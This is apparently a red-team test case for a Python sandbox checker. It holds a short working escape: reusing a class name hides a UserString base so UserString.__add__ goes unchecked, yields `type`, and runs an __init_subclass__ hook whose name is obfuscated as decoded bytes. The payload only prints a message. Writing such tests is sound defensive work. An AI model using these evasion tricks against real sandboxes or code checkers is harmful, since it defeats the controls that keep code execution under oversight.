# family: red team, round 32 (a class name reused hides a library base)
# FULL ESCAPE. Chain: library_methods._library_bases maps class NAMES to scopes with a dict, so a later
# class with the same name hides the earlier one. Y derives from X (UserString); X is then redefined as a
# plain class, so _library_bases("Y") finds no library base and Y.__add__ (= UserString.__add__, a plain
# function) is never judged. Called as a value with tool class C as self: self.__class__ is type and
# self.data + other returns class K, so it returns type(K) == type. type(name, bases, ns) then builds a
# class whose __init_subclass__ hook (name decoded from bytes at run time) runs.
from collections import UserString


class K:
    pass


class D:
    def __add__(self, other):
        return K


class C:
    data = D()


class X(UserString):
    pass


class Y(X):
    pass


class X:  # noqa: F811
    pass


add = Y.__add__
meta = add(C, "x")
print(meta)
hook = bytes([95, 95, 105, 110, 105, 116, 95, 115, 117, 98, 99, 108, 97, 115, 115, 95, 95]).decode()


def ran(cls):
    print("hook ran for", cls.__name__)


Base = meta("Base", (), {hook: classmethod(ran)})


class Child(Base):
    pass
